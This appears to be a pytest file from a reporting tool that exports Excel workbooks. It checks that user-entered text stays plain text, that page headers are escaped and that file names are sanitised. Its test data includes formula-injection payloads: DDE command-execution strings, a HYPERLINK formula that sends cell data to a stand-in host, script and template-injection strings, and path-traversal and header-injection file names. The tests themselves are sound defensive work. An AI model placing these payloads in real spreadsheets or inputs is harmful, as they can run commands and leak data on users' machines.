"""What people write stays text in every exported workbook."""

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from report_frames import inputs

from reports import summary_workbook, workbook_name
from reports.styles import TEXT
from reports.writer import as_bytes, clean, in_header, put

TEXT_COLUMNS = ("Forum", "Asal", "Instansi", "Kegiatan", "Satuan", "Keterangan kendala", "Bukti")
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ";=1+1",
    "＝1+1",
    '"=1+1"',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "#REF!",
    "#N/A",
    "{=1+1}",
    "_x003D_1+1",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "&C&\"Arial\"&P",
    "%s{0.__class__}{{7*7}}",
    "a\u202egpj.exe",
    "nul\x00\x0b\ufffe\ud800 akhir",
    "2016-08",
    "1e5",
    "TRUE",
)  # fmt: skip


def cells_of(text: str) -> Workbook:
    book = Workbook()
    put(book.active["A1"], text, TEXT)
    return load_workbook(BytesIO(as_bytes(book)))


def formulas_in(content: bytes) -> int:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        return sum(len(re.findall(rb"<f[ >]", archive.read(name))) for name in sheets)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_stays_text(payload: str):
    cell = cells_of(payload).active["A1"]
    assert cell.data_type == "s"
    # Excel and LibreOffice read _x005F_ back as the underscore that was written; openpyxl does not.
    assert cell.value.replace("_x005F_", "_") == clean(payload)


def test_no_formula_or_link_comes_from_people():
    words = [clean(payload) for payload in PAYLOADS]
    usual = summary_workbook(inputs("16.07", "2016-08"), language="id")
    written = summary_workbook(inputs("16.07", "2016-08", words=words), language="id")
    assert formulas_in(written) == formulas_in(usual)
    with zipfile.ZipFile(BytesIO(written)) as archive:
        relations = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".rels"))
    assert b'TargetMode="External"' not in relations


def test_every_text_column_says_what_was_written():
    words = [clean(payload) for payload in PAYLOADS]
    book = load_workbook(BytesIO(summary_workbook(inputs("16.07", "2016-08", words=words), language="id")))
    sheet, checked = book["RTL semua"], []
    for cells in zip(*sheet.iter_rows(min_row=5, max_row=4 + len(words)), strict=True):
        if sheet.cell(4, cells[0].column).value in TEXT_COLUMNS:
            checked.append(cells[0].column)
            assert [str(cell.value).replace("_x005F_", "_") for cell in cells] == words
            assert {cell.data_type for cell in cells} == {"s"}
    assert len(checked) == len(TEXT_COLUMNS)


def test_a_leading_sign_carries_the_mark_that_keeps_it_text_when_edited():
    assert cells_of("=1+1").active["A1"].quotePrefix
    assert not cells_of("Dinas Sosial").active["A1"].quotePrefix


def test_missing_leaves_a_cell_empty_and_zero_does_not():
    book = Workbook()
    for place, value in enumerate((None, float("nan"), 0), start=1):
        put(book.active.cell(1, place), value, TEXT)
    assert [cell.value for cell in book.active[1]] == [None, None, 0]


def test_a_page_header_takes_no_codes_from_names():
    assert in_header("Dinas A & B &P") == "Dinas A && B &&P"


def test_a_text_longer_than_a_cell_is_cut():
    assert len(clean("a" * 40_000)) == 32_767


@pytest.mark.parametrize(
    ("area", "name"),
    [
        ("Kabupaten Banyuasin", "UHC_Kabupaten-Banyuasin_2016-08_2026-11-22.xlsx"),
        ("../../a\r\nSet-Cookie: x/\u202e", "UHC_a-Set-Cookie-x_2016-08_2026-11-22.xlsx"),
        ("", "UHC_wilayah_2016-08_2026-11-22.xlsx"),
    ],
)
def test_the_file_name_is_safe(area: str, name: str):
    assert workbook_name(area, "2016-08", inputs("16.07", "2016-08").today) == name
